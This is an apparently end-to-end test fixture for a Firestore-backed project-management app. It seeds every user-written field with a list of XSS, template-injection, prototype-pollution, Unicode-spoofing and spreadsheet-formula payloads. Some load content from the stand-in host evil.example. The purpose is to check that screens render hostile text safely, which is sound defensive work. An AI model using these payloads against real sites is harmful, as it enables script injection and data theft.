import {
  assignmentPath,
  companyPath,
  contactRequestPath,
  conversationPath,
  DEFAULT_SETTINGS,
  directoryCardPath,
  informationSheetPath,
  LANGUAGES,
  meetingPath,
  meetingRequestPath,
  projectPath,
  revisionPath,
  taskEventPath,
  userPath,
  userSettingsPath,
  workgroupConversationId,
  workgroupPath,
  type Role,
} from '@ouvrage/domain';
import { givenCompany } from './companies';
import { givenConversation, givenMessages } from './conversations';
import { givenMeeting } from './meetings';
import { givenNotification } from './notifications';
import { createPerson, serverFirestore, type Person } from './people';
import { givenAssignment } from './tasks';
import { givenWorkgroup } from './workgroups';

/**
 * Texts that are harmful when interpreted as markup, script, an address, a template or a format. One that
 * runs sets `__xss` on the window, opens a dialog or requests `evil.example`.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>window.__xss=1</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<ScRiPt>window.__xss=1</sCrIpT>',
  '<scr<script>ipt>window.__xss=1</scr</script>ipt>',
  '"><script>window.__xss=1</script>',
  "'><script>window.__xss=1</script>",
  '</title><script>window.__xss=1</script>',
  '</textarea><script>window.__xss=1</script>',
  '</style><script>window.__xss=1</script>',
  '--><script>window.__xss=1</script>',
  ']]><script>window.__xss=1</script>',
  '<img src=x onerror=window.__xss=1>',
  '<img src=x onerror="alert(1)">',
  '<img/src="x"/onerror=window.__xss=1//',
  '<img src="https://evil.example/pixel.gif">',
  '<img srcset="https://evil.example/a.png 1x">',
  '<IMG """><SCRIPT>window.__xss=1</SCRIPT>">',
  '<svg onload=window.__xss=1>',
  '<svg><script>window.__xss=1</script></svg>',
  '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:window.__xss=1"><text y="1em">ici</text></a></svg>',
  '<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
  '<math href="javascript:window.__xss=1">ici</math>',
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<object data="https://evil.example/x"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; * { display: none !important }</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><button autofocus>ici</button></form>',
  '<details open ontoggle=window.__xss=1>ici</details>',
  '<video><source onerror=window.__xss=1></video>',
  '<input autofocus onfocus=window.__xss=1>',
  '<a href="javascript:window.__xss=1">ici</a>',
  '<div style="background:url(https://evil.example/x)">ici</div>',
  '<template><img src=x onerror=window.__xss=1></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  'javascript:window.__xss=1',
  'JaVaScRiPt&#58;window.__xss=1',
  'java\tscript:window.__xss=1',
  'vbscript:window.__xss=1',
  'data:text/html,<script>window.__xss=1</script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==',
  '[ici](javascript:window.__xss=1)',
  '[ici](data:text/html,<script>window.__xss=1</script>)',
  '[ici]: javascript:window.__xss=1',
  '![ici](https://evil.example/pixel.png)',
  '<javascript:window.__xss=1>',
  '{{constructor.constructor("window.__xss=1")()}}',
  '{{count}} $t(common:action.close) {{- html}}',
  '${window.__xss=1} #{window.__xss=1} <%= window.__xss=1 %>',
  '%s %d %n {0} {name, plural, other {#}} \\u003cscript\\u003e',
  '&lt;script&gt;window.__xss=1&lt;/script&gt; &notit; &semi;',
  '__proto__',
  'constructor',
  '\u202Eexe.fdp\u202C \u2066<script>\u2069 \u200Flrm\u200E',
  'a\u200Bb\u200Cc\u200Dd\uFEFFe \u0000 \u0007',
  'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033Da\u0334\u0319\u0324l\u035Eg\u0321\u031Fo',
  '=HYPERLINK("https://evil.example","ici") +1 -1 @SUM(1)',
  'مرحبا <b>ici</b> مرحبا 12:30',
  'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft'.repeat(4),
];

/** The start of each hostile field, by which a test detects that a screen shows it. */
export const MARK = 'Hostile';

/** All hostile texts in one, separated by blank lines: the value of a stored field. */
const HOSTILE_FIELD = [MARK, ...HOSTILE_TEXTS].join('\n\n');

/** The ids of the hostile documents, and the admin who reads them: admins see every screen. */
export interface HostileWorkspace {
  readonly reader: Person;
  readonly projectId: string;
  readonly taskId: string;
  readonly conversationId: string;
  readonly meetingId: string;
  /** Deletes the documents, so that the lists of later tests do not contain them. */
  readonly remove: () => Promise<void>;
}

/** Stores one document of everything that people write, with every hostile text in each of its fields. */
export async function givenHostileWorkspace(): Promise<HostileWorkspace> {
  const firestore = serverFirestore();
  const reader = await createPerson('Claire', 'Delmas', 'admin', 'Programmiste');
  const author = await givenHostilePerson('intervenant');
  const owner = await givenHostilePerson('owner');
  const company = await givenCompany(HOSTILE_FIELD, {
    country: HOSTILE_FIELD,
    sector: HOSTILE_FIELD,
  });
  const task = await givenAssignment({
    assignee: author,
    validator: reader,
    status: 'submitted',
    owner,
  });
  const hostileTask = { ...task, projectName: HOSTILE_FIELD, taskName: HOSTILE_FIELD };
  const workgroup = await givenWorkgroup({
    name: HOSTILE_FIELD,
    createdBy: reader,
    members: [author, owner],
  });
  const conversationId = await givenConversation([reader, author, owner], HOSTILE_FIELD);
  await givenMessages(conversationId, author, [...HOSTILE_TEXTS, HOSTILE_FIELD.slice(0, 5_000)]);
  const meetingId = await givenMeeting([author, reader], {
    title: HOSTILE_FIELD,
    description: HOSTILE_FIELD,
  });
  await givenNotification(reader, hostileTask, { kind: 'submitted', reason: 'validator' });

  const at = new Date();
  const requests = [meetingRequestPath(author.uid), contactRequestPath(author.uid)] as const;
  const batch = firestore.batch();
  const project = { name: HOSTILE_FIELD, description: HOSTILE_FIELD };
  batch.update(firestore.doc(projectPath(task.projectId)), project);
  batch.update(firestore.doc(assignmentPath(task.id)), {
    projectName: HOSTILE_FIELD,
    assigneeName: author.name,
    comment: HOSTILE_FIELD,
    validationComment: HOSTILE_FIELD,
  });
  batch.update(firestore.doc(revisionPath(task.id, 1)), {
    fileName: `${HOSTILE_FIELD}.pdf`,
    comment: HOSTILE_FIELD,
  });
  batch.set(firestore.doc(taskEventPath(task.id, 'submitted')), {
    kind: 'submitted',
    by: author.uid,
    byName: author.name,
    at,
    from: 'in_progress',
    to: 'submitted',
    detail: { revision: 1, comment: HOSTILE_FIELD, assigneeName: author.name },
  });
  batch.update(firestore.doc(workgroupPath(workgroup)), { description: HOSTILE_FIELD });
  batch.set(firestore.doc(requests[0]), {
    title: HOSTILE_FIELD,
    description: HOSTILE_FIELD,
    requestedBy: author.uid,
    requestedByName: author.name,
    scheduledTime: new Date(at.getTime() + 86_400_000),
    suggestedParticipantIds: [reader.uid],
    status: 'pending',
    responseMessage: HOSTILE_FIELD,
    respondedAt: null,
    respondedBy: null,
    meetingId: null,
    createdAt: at,
  });
  batch.set(firestore.doc(requests[1]), {
    name: HOSTILE_FIELD,
    email: HOSTILE_FIELD,
    company: HOSTILE_FIELD,
    language: 'fr',
    createdAt: at,
    handledAt: null,
    handledBy: null,
  });
  const sheets = LANGUAGES.map((language) => {
    const path = informationSheetPath(task.subsectionId, task.taskKey, language);
    batch.set(firestore.doc(path), {
      phaseId: task.phaseId,
      sectionId: task.sectionId,
      subsectionId: task.subsectionId,
      taskName: HOSTILE_FIELD,
      language,
      text: HOSTILE_FIELD,
      version: 1,
      updatedBy: reader.uid,
      updatedAt: at,
    });
    return path;
  });
  await batch.commit();

  const paths = [
    ...[author, owner].flatMap(({ uid }) => [userPath(uid), directoryCardPath(uid)]),
    ...[companyPath(company), projectPath(task.projectId), assignmentPath(task.id)],
    ...[workgroupPath(workgroup), conversationPath(workgroupConversationId(workgroup))],
    ...[conversationPath(conversationId), meetingPath(meetingId), ...requests, ...sheets],
  ];
  return {
    reader,
    projectId: task.projectId,
    taskId: task.id,
    conversationId,
    meetingId,
    remove: async () => {
      for (const path of paths) await firestore.recursiveDelete(firestore.doc(path));
    },
  };
}

/** Creates a person whose visible fields are hostile. Nobody signs in as them. */
async function givenHostilePerson(role: Role): Promise<Person> {
  const person = await createPerson(MARK, 'Author', role, 'Architectes');
  const fields = { name: HOSTILE_FIELD, specialty: HOSTILE_FIELD, companyName: HOSTILE_FIELD };
  const batch = serverFirestore().batch();
  batch.update(serverFirestore().doc(userPath(person.uid)), {
    ...fields,
    firstName: HOSTILE_FIELD,
    lastName: HOSTILE_FIELD,
  });
  batch.update(serverFirestore().doc(directoryCardPath(person.uid)), fields);
  batch.set(serverFirestore().doc(userSettingsPath(person.uid)), {
    ...DEFAULT_SETTINGS,
    phone: HOSTILE_FIELD,
    bio: HOSTILE_FIELD,
    updatedAt: new Date(),
  });
  await batch.commit();
  return { ...person, name: HOSTILE_FIELD };
}
